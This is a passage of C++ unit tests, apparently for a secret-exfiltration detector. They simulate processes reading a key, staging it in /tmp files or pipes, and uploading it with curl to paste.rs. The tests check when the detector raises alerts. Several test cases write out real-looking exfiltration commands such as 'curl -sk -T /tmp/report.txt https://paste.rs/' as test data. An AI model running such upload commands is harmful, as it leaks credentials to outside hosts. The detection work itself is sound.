        const auto wrote_at = tl.t - 1'000'000;
        tl.step(2000);
        tl.read(py, key, 2600);
        if (stage == Stage::open_before_written_after) tl.wrote(py, "/tmp/report.txt", ino);
        if (stage == Stage::opened_after) tl.open_write(py, "/tmp/report.txt", ino);
        tl.step(2000);
        // Its exit summary repeats the kernel's last write time (the write before the read).
        FileSummaryEvent last{tl.t, py,   "/tmp/report.txt",
                              ino,  2049, 0,
                              0,    true, stage == Stage::written_before ? wrote_at : tl.t - 1'000'000};
        tl.feed(last);
        tl.exit(py);
        // Another process, not forked from it, uploads the file.
        auto curl = tl.start_session({"curl", "-sk", "-T", "/tmp/report.txt", "https://paste.rs/"});
        tl.read(curl, "/tmp/report.txt", 2700, ino);
        tl.transfer(curl, "paste.rs", 1300 + 2700, 400);
        return tl.alerts;
    };
    CHECK(run(Stage::written_before).empty());  // alerted before: the later read tainted the earlier write
    auto after = run(Stage::open_before_written_after);
    REQUIRE_FALSE(after.empty());
    CHECK(after[0].reason.find("staged in /tmp/report.txt") != std::string::npos);
    CHECK_FALSE(run(Stage::opened_after).empty());
}

TEST_CASE("order within a process: an upload read before the late write still alerts when it comes")
{
    // The writer keeps the file open; the uploader reads it before the summary saying it was
    // written after the key read arrives (a periodic summary): the taint reaches it then.
    Timeline tl;
    constexpr std::uint64_t ino = 5400;
    auto py = tl.spawn(tl.shell, {"python3", "job.py"}, "/usr/bin/python3.11", 0, 0, 0, StdoutKind::other);
    tl.open_write(py, "/tmp/out.bin", ino);
    tl.step(2000);
    tl.read(py, key, 2600);
    auto curl = tl.start_session({"curl", "-sk", "-T", "/tmp/out.bin", "https://paste.rs/"});
    tl.read(curl, "/tmp/out.bin", 2700, ino);
    tl.transfer(curl, "paste.rs", 1300 + 2700, 400);
    CHECK(silent(tl));
    tl.wrote(py, "/tmp/out.bin", ino);
    CHECK_FALSE(silent(tl));
}

TEST_CASE("order within a process: a pipe written before the read, and after it")
{
    auto run = [](bool again_after, TimeNs gap_ms) {
        Timeline tl;
        auto py = tl.spawn(tl.shell, {"python3", "job.py"}, "/usr/bin/python3.11", 0, 0, 6100);
        auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"}, {}, 0, 6100, 0,
                             StdoutKind::other);
        tl.object_io(py, ObjectKind::pipe, 6100, IoDirection::write, 120);  // "starting..."
        tl.object_io(curl, ObjectKind::pipe, 6100, IoDirection::read, 120);
        tl.step(gap_ms);
        tl.read(py, key, 2600);
        if (again_after) {
            tl.object_io(py, ObjectKind::pipe, 6100, IoDirection::write, 120 + 2600);
            tl.object_io(curl, ObjectKind::pipe, 6100, IoDirection::read, 120 + 2600);
        }
        tl.transfer(curl, "paste.rs", 1300 + 2720, 400);
        return tl.alerts;
    };
    CHECK(run(false, 3000).empty());
    CHECK_FALSE(run(true, 3000).empty());
    // Within a second of a count record, writes are not reported yet: taken as written.
    CHECK_FALSE(run(false, 200).empty());
}

TEST_CASE("order within a process: a child writing a file its shell opened ({ cat key; } > out)")
{
    auto run = [](bool child_writes) {
        Timeline tl;
        constexpr std::uint64_t ino = 5500;
        auto sub = tl.fork(tl.shell);
        tl.open_write(sub, "/tmp/out", ino);
        auto cat = tl.spawn(sub, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
        tl.step(2000);
        tl.read(cat, key, 2600);
        if (child_writes) tl.wrote(cat, "/tmp/out", ino);  // the kernel's first write through the inherited fd
        tl.exit(cat);
        auto curl = tl.start_session({"curl", "-sk", "-T", "/tmp/out", "https://paste.rs/"});
        tl.read(curl, "/tmp/out", 2600, ino);
        tl.transfer(curl, "paste.rs", 1300 + 2600, 400);
        return tl.alerts;
    };
    CHECK_FALSE(run(true).empty());
    CHECK(run(false).empty());
}
